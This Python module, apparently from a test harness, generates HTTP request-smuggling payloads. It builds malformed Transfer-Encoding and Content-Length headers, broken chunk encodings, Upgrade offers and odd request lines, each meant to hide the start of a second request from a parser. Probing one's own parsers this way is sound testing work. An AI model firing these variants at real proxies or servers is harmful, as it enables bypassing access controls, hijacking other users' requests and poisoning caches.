"""Requests that parsers disagree about; each tries to leave the beginning of another request behind it."""

from collections.abc import Iterator

Trick = tuple[bytes, ...]  # segments

OFFERS = {
    "foo": b"Connection: Upgrade\r\nUpgrade: foo\r\n",
    "h2c": b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n",
    "websocket": b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n",
    "kept": b"Connection: keep-alive, Upgrade\r\nUpgrade: foo/1, bar\r\n",
    "alone": b"Upgrade: foo\r\n",
    "named twice": b"Connection: Upgrade\r\nConnection: keep-alive\r\nUpgrade: foo\r\nUpgrade: bar\r\n",
}
CODINGS = {
    "plain": b"Transfer-Encoding: chunked",
    "upper case": b"TRANSFER-ENCODING: CHUNKED",
    "tab": b"Transfer-Encoding:\tchunked",
    "space behind": b"Transfer-Encoding: chunked ",
    "x": b"Transfer-Encoding: xchunked",
    "identity": b"Transfer-Encoding: identity",
    "identity first": b"Transfer-Encoding: identity, chunked",
    "identity last": b"Transfer-Encoding: chunked, identity",
    "gzip": b"Transfer-Encoding: gzip, chunked",
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "quoted": b'Transfer-Encoding: "chunked"',
    "comma": b"Transfer-Encoding: chunked,",
    "empty": b"Transfer-Encoding:",
    "control": b"Transfer-Encoding: \x0bchunked",
    "nul": b"Transfer-Encoding: chunked\x00",
    "high byte": b"Transfer-Encoding: chunked\xff",
    "space before colon": b"Transfer-Encoding : chunked",
    "tab before colon": b"Transfer-Encoding\t: chunked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "behind a fold": b"X: y\r\n Transfer-Encoding: chunked",
    "behind a return": b"X: y\rTransfer-Encoding: chunked",
    "behind a line feed": b"X: y\nTransfer-Encoding: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "twice, other": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    "named by Connection": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
}
LENGTHS = {
    "twice": b"Content-Length: 5\r\nContent-Length: 5",
    "twice, other": b"Content-Length: 5\r\nContent-Length: %d",
    "twice, other way": b"Content-Length: %d\r\nContent-Length: 5",
    "list": b"Content-Length: 5, 5",
    "plus": b"Content-Length: +5",
    "minus": b"Content-Length: -5",
    "hexadecimal": b"Content-Length: 0x5",
    "zeros": b"Content-Length: 0000000005",
    "garbage": b"Content-Length: 5 5",
    "empty": b"Content-Length:",
    "exponent": b"Content-Length: 5e0",
    "beyond 64 bit": b"Content-Length: 18446744073709551621",
    "named by Connection": b"Connection: Content-Length\r\nContent-Length: 5",
    "underscore": b"Content_Length: 5",
    "space before colon": b"Content-Length : 5",
    "folded": b"Content-Length:\r\n 5",
}
CHUNKS = {
    "extension": b"5;a=b\r\nhello\r\n0\r\n\r\n",
    "extension and line feed": b"5;\nhello\r\n0\r\n\r\n",
    "extension and return": b"5;a\rb\r\nhello\r\n0\r\n\r\n",
    "line feeds": b"5\nhello\n0\n\n",
    "hexadecimal sign": b"0x5\r\nhello\r\n0\r\n\r\n",
    "overflow": b"10000000000000005\r\nhello\r\n0\r\n\r\n",
    "negative": b"-5\r\nhello\r\n0\r\n\r\n",
    "letters": b"zz\r\nhello\r\n0\r\n\r\n",
    "space": b"5 \r\nhello\r\n0\r\n\r\n",
    "no end of data": b"5\r\nhello0\r\n\r\n",
    "too much data": b"5\r\nhello!!\r\n0\r\n\r\n",
    "trailer": b"5\r\nhello\r\n0\r\nAuthorization: Bearer x\r\n\r\n",
    "trailer of framing": b"0\r\nContent-Length: 9\r\nTransfer-Encoding: chunked\r\n\r\n",
    "trailer of address": b"0\r\nX-Forwarded-For: 203.0.113.9\r\n\r\n",
    "last chunk and line feed": b"5\r\nhello\r\n0\r\n\n",
    "no last chunk": b"5\r\nhello\r\n",
}
LINES = {
    "HTTP/0.9": b"POST %s\r\n",
    "HTTP/1.0": b"POST %s HTTP/1.0\r\nContent-Length: 5\r\nConnection: keep-alive\r\n\r\nhello",
    "HTTP/1.2": b"POST %s HTTP/1.2\r\nHost: cp\r\nContent-Length: 5\r\n\r\nhello",
    "HTTP/2.0": b"POST %s HTTP/2.0\r\nHost: cp\r\nContent-Length: 5\r\n\r\nhello",
    "absolute form": b"POST http://cp%s HTTP/1.1\r\nHost: other\r\nContent-Length: 5\r\n\r\nhello",
    "fragment": b"POST %s#x HTTP/1.1\r\nHost: cp\r\nContent-Length: 5\r\n\r\nhello",
    "two spaces": b"POST  %s HTTP/1.1\r\nHost: cp\r\nContent-Length: 5\r\n\r\nhello",
    "version twice": b"POST %s HTTP/1.1 HTTP/1.1\r\nHost: cp\r\nContent-Length: 5\r\n\r\nhello",
    "CONNECT": b"CONNECT cp:443 HTTP/1.1\r\nHost: cp:443\r\n\r\n",
    "two hosts": b"POST %s HTTP/1.1\r\nHost: cp\r\nHost: other\r\nContent-Length: 5\r\n\r\nhello",
    "no host": b"POST %s HTTP/1.1\r\nContent-Length: 5\r\n\r\nhello",
    "line feeds only": b"POST %s HTTP/1.1\nHost: cp\nContent-Length: 5\n\nhello",
    "space before the first header": b"POST %s HTTP/1.1\r\n Host: cp\r\nContent-Length: 5\r\n\r\nhello",
    "no colon": b"POST %s HTTP/1.1\r\nHost: cp\r\nContent-Length 5\r\n\r\nhello",
    "body of a GET": b"GET %s HTTP/1.1\r\nHost: cp\r\nContent-Length: 5\r\n\r\nhello",
    "body of a HEAD": b"HEAD /api/livez HTTP/1.1\r\nHost: cp\r\nContent-Length: 5\r\n\r\nhello",
    "body without length": b"POST %s HTTP/1.1\r\nHost: cp\r\n\r\n",
    "closed": b"POST %s HTTP/1.1\r\nHost: cp\r\nConnection: close\r\nContent-Length: 5\r\n\r\nhello",
    "expectation": b"POST %s HTTP/1.1\r\nHost: cp\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\nhello",
    "another expectation": b"POST %s HTTP/1.1\r\nHost: cp\r\nExpect: x\r\nContent-Length: 5\r\n\r\nhello",
}


def tricks(target: bytes, hidden: bytes, unfinished: bytes) -> Iterator[tuple[str, Trick]]:
    """Requests for `target` that hide the beginning of `hidden`, and such as end within the body `unfinished`."""
    start = b"POST " + target + b" HTTP/1.1\r\nHost: cp\r\n"
    blank = b"\r\n" * 8 + hidden
    for name, offer in OFFERS.items():
        head = start + offer + b"Content-Length: %d\r\n\r\n" % len(blank)
        yield f"offer {name}", (head + blank,)
        yield f"offer {name}, in two", (head, blank)
        long = b"\r\n" * 20_000 + hidden  # which a proxy sends on in segments of its own
        yield f"offer {name}, long", (start + offer + b"Content-Length: %d\r\n\r\n" % len(long) + long,)
        chunked = b"%x\r\n" % len(blank) + blank + b"\r\n0\r\n\r\n"
        yield f"offer {name}, chunked", (start + offer + b"Transfer-Encoding: chunked\r\n\r\n" + chunked,)
        yield f"offer {name}, of a GET", ((head + blank).replace(b"POST", b"GET", 1),)
    end = b"0\r\n\r\n" + hidden
    for name, coding in CODINGS.items():
        yield f"coding {name}", (start + coding + b"\r\n\r\n" + end,)
        yield (
            f"coding {name}, and a length",
            (start + b"Content-Length: %d\r\n" % len(end) + coding + b"\r\n\r\n" + end,),
        )
    for name, length in LENGTHS.items():
        value = length % (5 + len(blank)) if b"%d" in length else length
        yield f"length {name}", (start + value + b"\r\n\r\nhello" + blank,)
    for name, chunks in CHUNKS.items():
        yield f"chunk {name}", (start + b"Transfer-Encoding: chunked\r\n\r\n" + chunks + hidden,)
        yield f"chunk {name}, later", (start + b"Transfer-Encoding: chunked\r\n\r\n", chunks + hidden)
    for name, line in LINES.items():
        yield f"line {name}", ((line % target if b"%s" in line else line) + hidden,)
    yield from _cut(unfinished)


def _cut(unfinished: bytes) -> Iterator[tuple[str, Trick]]:
    """`unfinished` begins a request for the log whose body never comes whole."""
    body = b'[{"type":"playground.unfinished"}]'
    yield "cut length", (unfinished + b"Content-Length: %d\r\n\r\n" % (len(body) + 1) + body,)
    yield "cut chunk", (unfinished + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % (len(body) + 1) + body,)
    whole = b"%x\r\n%b\r\n" % (len(body), body)
    yield "cut before the last chunk", (unfinished + b"Transfer-Encoding: chunked\r\n\r\n" + whole,)
    yield "cut last chunk", (unfinished + b"Transfer-Encoding: chunked\r\n\r\n" + whole + b"0\r\n",)
    yield "cut by garbage", (unfinished + b"Transfer-Encoding: chunked\r\n\r\n" + whole + b"zz\r\n\r\n",)
    yield "cut by a trailer", (unfinished + b"Transfer-Encoding: chunked\r\n\r\n" + whole + b"0\r\nA: b",)
